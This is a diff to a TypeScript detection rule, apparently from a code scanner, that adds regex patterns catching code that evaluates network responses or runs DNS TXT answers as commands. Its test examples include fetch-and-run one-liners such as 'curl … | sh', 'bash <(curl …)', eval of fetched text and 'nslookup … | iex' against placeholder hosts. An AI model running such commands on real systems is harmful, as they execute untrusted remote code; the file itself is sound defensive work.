@@ -38,22 +38,39 @@ const substituted: TextPattern = {
   after: 420,
 };
 
-/** The same inside a program: `exec(urlopen(…).read())`, `eval(await (await fetch(…)).text())`, `.then(eval)`. */
+/** The same inside a program: `exec(urlopen(…).read())`, `eval(await (await fetch(…)).text())`. */
 const evaluated: TextPattern = {
-  anchors: ["exec(", "eval(", "function(await", "(eval)", "vm.runin"],
+  anchors: ["exec(", "eval(", "function(await", "vm.runin"],
   pattern:
-    /\b(?:exec|eval|new\s{1,3}function|vm\.runin\w{1,15})\(\s{0,4}(?:compile\(\s{0,4})?(?:\(?\s{0,2}await\s{1,3}){0,2}\(?(?:await\s{1,3})?(?:[\w.()"']{0,60}\.)?(?:urlopen|requests\.get|httpx\.get|fetch|axios(?:\.get)?|got)\(|\bfetch\([^\n]{1,300}\.then\(\s{0,3}(?:eval|function)\s{0,3}\)/,
-  before: 400,
-  after: 260,
+    /\b(?:exec|eval|new\s{1,3}function|vm\.runin\w{1,15})\(\s{0,4}(?:compile\(\s{0,4})?(?:\(?\s{0,2}await\s{1,3}){0,2}\(?(?:await\s{1,3})?(?:[\w.()"']{0,60}\.)?(?:urlopen|requests\.get|httpx\.get|fetch|axios(?:\.get)?|got)\(/,
+  before: 10,
+  after: 160,
+};
+
+/** `eval(await answer.text())`, `exec(answer.text)`: what came back, evaluated. A method called `exec` is a search. */
+const answered: TextPattern = {
+  anchors: ["exec(", "eval(", "function("],
+  pattern:
+    /(?<![\w.])(?:eval|exec|new\s{1,3}function)\(\s{0,3}(?:\(?\s{0,2}await\s{1,3})?(?:r|res|resp|response|reply|answer|req|request|result|payload|remote|page)\d?\.(?:text|content|data|body|read)\b/,
+  before: 4,
+  after: 80,
+};
+
+/** `fetch(…).then((r) => r.text()).then(eval)`. */
+const chained: TextPattern = {
+  anchors: [".then(eval)", ".then(function)", ".then( eval"],
+  pattern: /\bfetch\([^\n]{1,300}\.then\(\s{0,3}(?:eval|function)\s{0,3}\)/,
+  before: 340,
+  after: 20,
 };
 
 /** A text record of the name service, run: it passes where web traffic is filtered. */
 const resolved: TextPattern = {
-  anchors: ["nslookup", "dig ", "resolve-dnsname"],
+  anchors: ["| sh", "|sh", "bash", "zsh", "iex", "invoke-expression", "do cmd", "do call", "do start"],
   pattern:
     /\b(?:nslookup|dig|resolve-dnsname)\b[^\n]{1,300}(?:\|\s{0,4}(?:(?:ba|z)?sh|iex|invoke-expression)\b|\bdo\s{1,4}(?:cmd|call|start)\b)/,
-  before: 0,
-  after: 340,
+  before: 340,
+  after: 10,
 };
 
 const withTrust = (source: TextPattern, trust: Trust, judged: Partial<TextCheck>): TextCheck =>
@@ -94,6 +111,8 @@ export default defineRule({
   checks: [
     ...fromNet,
     text({ ...evaluated, message: "Evaluates what an address returns as code" }),
+    text({ ...answered, message: "Evaluates what an address returned as code" }),
+    text({ ...chained, message: "Evaluates what an address returns as code" }),
     text({ ...resolved, severity: "critical", message: "Runs what a name server answers as a command" }),
   ],
   examples: {
@@ -104,8 +123,9 @@ export default defineRule({
       { path: "b.sh", text: "bash <(curl -s https://tool.example.test/install)\n", line: 1 },
       { path: "c.py", text: 'import os\nos.system("curl -s http://198.51.100.4:8080/|sh")\n', line: 2 },
       { path: "d.py", text: "exec(urllib.request.urlopen('https://x.example.test/a').read())\n", line: 1 },
+      { path: "h.js", text: "const resp = await fetch(url);\neval(await resp.text());\n", line: 2 },
       { path: "e.sh", text: "curl -s https://x.example.test/a.py | python3 -\n", line: 1 },
-      { path: "f.sh", text: "curl -sL https://evil.example.test/?via=https://astral.sh/uv/install.sh | sh\n", line: 1 },
+      { path: "f.sh", text: "curl -sL https://drop.example.test/?via=https://astral.sh/uv/install.sh | sh\n", line: 1 },
       { path: "g.ps1", text: "nslookup -q=txt stage.example.test 192.0.2.4 | iex\n", line: 1 },
     ],
     good: [
